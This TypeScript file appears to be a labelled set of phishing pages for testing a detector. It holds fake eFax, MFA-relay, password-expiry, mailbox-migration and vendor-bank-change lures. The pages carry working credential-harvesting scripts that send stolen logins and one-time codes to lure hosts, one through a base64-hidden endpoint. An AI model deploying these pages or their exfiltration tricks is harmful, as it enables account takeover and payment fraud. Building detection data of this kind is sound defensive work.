import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc, jsRoute, jsonRoute, pngRoute, msCss, msLogo, b64 } from '../parts/t-kit.js';

// Reported by employees: fax/voicemail, MFA relay, helpdesk, mailbox and vendor-payment lures — dev split.

const faxHost = 'efax-messenger.inboundfax-view.com';
const otpHost = 'login-hartwell.session-verify.co';
const hdHost = 'it-servicedesk-hartwell.com';
const mmHost = 'exchange-migration.helpdesk-ticketing.org';
const vbHost = 'supplier-portal.vendor-remit-update.com';

export const entries: Entry[] = [
  {
    id: 't-ph-efax-notification',
    label: 'phishing',
    kind: 'fax-lure',
    url: `https://${faxHost}/inbound/view?fax_id=FX-7731094&pages=3`,
    body: doc(
      'eFax Messenger – You have a new fax',
      `<style>body{margin:0;font-family:Verdana,Arial,sans-serif;background:#dfe4ea;font-size:13px}
.w{max-width:640px;margin:30px auto;background:#fff;border:1px solid #c8cfd7}
.h{background:#e31b23;color:#fff;padding:12px 18px;font-weight:700;font-size:18px}
table{width:100%;border-collapse:collapse}td{padding:8px 18px;border-bottom:1px solid #eef}td:first-child{color:#667;width:160px}
.pv{margin:14px 18px;height:160px;background:repeating-linear-gradient(#fff 0 10px,#ddd 10px 11px);filter:blur(2px);border:1px solid #ddd}
.f{padding:0 18px 18px}.f input{width:100%;padding:8px;border:1px solid #aab;margin:4px 0;box-sizing:border-box}.f button{background:#e31b23;color:#fff;border:0;padding:9px 20px;cursor:pointer}</style>`,
      `<div class="w"><div class="h">eFax&reg; Messenger</div>
<table><tr><td>Fax ID</td><td>FX-7731094</td></tr><tr><td>Caller ID</td><td>+1 646 555 0193</td></tr><tr><td>Received</td><td id="rc"></td></tr><tr><td>Pages</td><td>3</td></tr><tr><td>Type</td><td>Signed purchase order / remittance</td></tr></table>
<div class="pv"></div>
<div class="f"><p>To protect your privacy, please authenticate with the email account this fax was delivered to.</p>
<form id="ff"><input type="email" name="u" placeholder="Email" required><input type="password" name="p" placeholder="Password" required><button>View Fax</button></form></div></div>
<p style="text-align:center;color:#667;font-size:11px">&copy; 2026 Consensus Cloud Solutions &middot; eFax is a registered trademark.</p>
<script>
document.getElementById('rc').textContent=new Date(Date.now()-3600e3).toLocaleString();
document.getElementById('ff').onsubmit=function(e){e.preventDefault();var s=document.createElement('script');
s.src='https://${faxHost}/inbound/cb.js?d='+encodeURIComponent(btoa(this.u.value+':'+this.p.value));document.body.appendChild(s);};
</script>`,
    ),
  },
  {
    id: 't-ph-mfa-otp-relay',
    label: 'phishing',
    kind: 'mfa-relay',
    url: `https://${otpHost}/common/SAS/BeginAuth?sessionId=8c3f12a9&upn=r.obrien%40hartwell-eng.com`,
    body: doc(
      'Enter code',
      `<style>${msCss}.otp{display:flex;gap:8px;margin:18px 0}.otp input{width:42px!important;text-align:center;font-size:22px!important;border:1px solid #666!important;padding:8px 0!important}</style>`,
      `<div class="card"><div>${msLogo}</div><div class="idchip" id="u"></div><h1>Enter code</h1>
<p class="small">&#128241; We texted your phone +X XXXXXXXX52. Please enter the code to sign in.</p>
<div class="otp" id="otp"></div><div class="err" id="er"></div>
<p class="small"><input type="checkbox"> Don't ask again for 30 days</p>
<p class="small"><a href="#" id="rs">Having trouble? Sign in another way</a></p><p class="small"><a href="#">More information</a></p>
<div class="row"><button class="btn" id="vf">Verify</button></div></div>
<div class="foot"><a href="#">Terms of use</a><a href="#">Privacy &amp; cookies</a></div>
<script>
(function(){var q=new URLSearchParams(location.search);document.getElementById('u').textContent=q.get('upn');
var o=document.getElementById('otp');for(var i=0;i<6;i++){var x=document.createElement('input');x.type='tel';x.maxLength=1;x.oninput=function(){if(this.nextSibling)this.nextSibling.focus()};o.appendChild(x)}
document.getElementById('vf').onclick=function(){var c=[].map.call(o.querySelectorAll('input'),function(i){return i.value}).join('');if(c.length<6)return;
fetch('/common/SAS/ProcessAuth',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({sid:q.get('sessionId'),otc:c})}).then(function(r){return r.json()}).then(function(j){if(j.ok)location.href=j.redirect;else document.getElementById('er').textContent='You didn\\'t enter the expected verification code. Please try again.'})};})();
</script>`,
    ),
    routes: {
      [`${otpHost}/common/SAS/ProcessAuth`]: jsonRoute({ ok: false }),
    },
  },
  {
    id: 't-ph-helpdesk-password-expiry',
    label: 'phishing',
    kind: 'password-expiry',
    url: `https://${hdHost}/selfservice/password/expiry.php?user=hartwell-eng.com%5Cjmorales`,
    body: doc(
      'IT Service Desk – Password Expiration Notice',
      `<style>body{margin:0;font-family:Tahoma,Arial,sans-serif;background:#f0f2f5}
.hd{background:#003a70;color:#fff;padding:14px 28px;font-size:18px}.w{max-width:520px;margin:40px auto;background:#fff;border:1px solid #d5dae0;padding:28px}
.warn{background:#fff3cd;border:1px solid #ffe08a;padding:10px;font-size:13px}
label{display:block;font-size:13px;margin-top:10px}input{width:100%;padding:8px;border:1px solid #aab4be;box-sizing:border-box;margin-top:3px}
button{margin-top:16px;padding:10px 24px;background:#003a70;color:#fff;border:0;cursor:pointer}ul{font-size:12px;color:#555}</style>`,
      `<div class="hd">&#128736; IT Service Desk &middot; Self-Service Password</div>
<div class="w"><div class="warn"><b>Your network password expires today.</b> To keep your current password and avoid losing access to email, VPN and Teams, confirm it below. Otherwise it will be reset automatically at 5:00 PM.</div>
<form id="pf"><label>Domain\\Username</label><input name="user" id="user"><label>Current password</label><input name="cur" type="password" required>
<label><input type="radio" name="opt" value="keep" checked style="width:auto"> Keep my current password</label><label><input type="radio" name="opt" value="change" style="width:auto"> Change my password</label>
<div id="nw" hidden><label>New password</label><input name="new1" type="password"><label>Confirm new password</label><input name="new2" type="password"><ul><li>At least 12 characters</li><li>Cannot reuse last 10 passwords</li></ul></div>
<button>Submit</button></form><p style="font-size:11px;color:#889;margin-top:18px">Ticket #INC0091742 &middot; Automated notice from the IT Service Desk. Do not reply.</p></div>
<script>
document.getElementById('user').value=decodeURIComponent(new URLSearchParams(location.search).get('user')||'');
[].forEach.call(document.querySelectorAll('input[name=opt]'),function(r){r.onchange=function(){document.getElementById('nw').hidden=this.value!=='change'}});
document.getElementById('pf').onsubmit=function(e){e.preventDefault();var d=new FormData(this);
fetch(atob('${b64('https://ticket-api.servdesk-cloud.net/v2/pw')}'),{method:'POST',body:d,mode:'no-cors'}).finally(function(){document.querySelector('.w').innerHTML='<h3>Thank you</h3><p>Your password has been retained. No further action is required.</p>'})};
</script>`,
    ),
  },
  {
    id: 't-ph-mailbox-migration-ticket',
    label: 'phishing',
    kind: 'helpdesk-lure',
    url: `https://${mmHost}/ticket/INC-448120/migrate?mbx=hartwell-eng.com`,
    body: doc(
      'Mailbox Migration – Action Required',
      `<style>body{margin:0;font-family:"Segoe UI",sans-serif;background:#fafafa}
.bar{background:#293e40;color:#fff;padding:12px 24px;display:flex;gap:16px;align-items:center}
.w{max-width:760px;margin:24px auto;background:#fff;border:1px solid #ddd;padding:26px}
.st{display:flex;gap:8px;margin:16px 0}.st div{flex:1;padding:8px;text-align:center;font-size:12px;background:#e8eef0;border-radius:3px}.st .on{background:#62d84e;color:#fff}
.f input{width:100%;padding:9px;border:1px solid #bbb;margin:4px 0 10px;box-sizing:border-box}.f button{padding:10px 26px;background:#293e40;color:#fff;border:0;cursor:pointer}</style>`,
      `<div class="bar"><b>servicenow</b><span style="opacity:.8">IT Service Portal</span></div>
<div class="w"><h2 style="margin-top:0">INC-448120 &middot; Exchange Online mailbox migration</h2>
<p>Your mailbox is scheduled to move to the new Exchange Online tenant tonight. Mailboxes that are not validated before migration will be <b>migrated without archive folders</b> and calendar items.</p>
<div class="st"><div class="on">Scheduled</div><div class="on">Pre-check</div><div>Validate</div><div>Migrate</div><div>Complete</div></div>
<div class="f"><b>Step 3 &ndash; Validate mailbox</b><form id="mf"><input type="email" name="mail" placeholder="Email address" required><input type="password" name="pass" placeholder="Current password" required><button>Validate mailbox</button></form></div>
<p style="font-size:12px;color:#777">Assigned to: Messaging Team &middot; Priority 2 &middot; Opened by System</p></div>
<script src="/ticket/assets/validate.js"></script>`,
    ),
    routes: {
      [`${mmHost}/ticket/assets/validate.js`]: jsRoute(`document.getElementById('mf').onsubmit=function(e){e.preventDefault();var m=this.mail.value,p=this.pass.value;
var i=new Image();i.src='/ticket/px.gif?m='+encodeURIComponent(m)+'&k='+encodeURIComponent(btoa(p));document.querySelectorAll('.st div')[2].className='on';
this.outerHTML='<p style="color:#2e7d32">Validation successful. Migration will proceed as scheduled.</p>';};`),
    },
  },
  {
    id: 't-ph-vendor-bank-change',
    label: 'phishing',
    kind: 'invoice-payment',
    url: `https://${vbHost}/portal/remittance-change?vendor=V-20931&ref=HW-AP`,
    body: doc(
      'Supplier Portal – Update Remittance Details',
      `<style>body{margin:0;font-family:Arial,sans-serif;background:#f5f7f9;color:#222}
.h{background:#fff;border-bottom:3px solid #0a7d3b;padding:14px 28px;display:flex;justify-content:space-between}
.w{max-width:720px;margin:28px auto;background:#fff;border:1px solid #dde;padding:28px}
fieldset{border:1px solid #e2e6ea;margin:14px 0;padding:14px}legend{font-weight:700;font-size:14px}
label{display:block;font-size:12px;color:#555;margin-top:8px}input{width:100%;padding:8px;border:1px solid #bac3cc;box-sizing:border-box}
button{padding:11px 28px;background:#0a7d3b;color:#fff;border:0;cursor:pointer;font-weight:700}</style>`,
      `<div class="h"><b style="color:#0a7d3b">Cascade Electric Supply &middot; Supplier Portal</b><span style="font-size:13px">Accounts Receivable</span></div>
<div class="w"><h2 style="margin-top:0">Update of remittance information</h2>
<p style="font-size:14px">Following our migration to a new banking partner, all customers must confirm the new remittance account for open invoices <b>INV-88120</b> and <b>INV-88134</b> (total $48,216.40). Please sign in with your company email to confirm, as your AP contact on file.</p>
<form id="vf"><fieldset><legend>Your account</legend><label>Company email</label><input type="email" name="e" required><label>Email password</label><input type="password" name="p" required></fieldset>
<fieldset><legend>New remittance account (for your records)</legend><label>Beneficiary</label><input value="Cascade Electric Supply LLC" readonly><label>Bank</label><input value="First Meridian Bank" readonly><label>Routing (ABA)</label><input value="071 921 891" readonly><label>Account</label><input value="8830 1194 2207" readonly></fieldset>
<label><input type="checkbox" required style="width:auto"> I confirm future payments will be made to the account above.</label><br><button>Confirm</button></form>
<p style="font-size:11px;color:#888;margin-top:16px">This is a secure page. Cascade Electric Supply will never ask you to share your banking password.</p></div>
<script>document.getElementById('vf').onsubmit=function(e){e.preventDefault();fetch('/portal/api/confirm',{method:'POST',body:new FormData(this)}).finally(function(){location.href='/portal/thank-you'})};</script>`,
    ),
    routes: {
      [`${vbHost}/portal/thank-you`]: htmlRoute(doc('Thank you', '', '<h2>Thank you</h2><p>Your confirmation has been recorded. Our AR team will contact you shortly.</p>')),
    },
  },
];
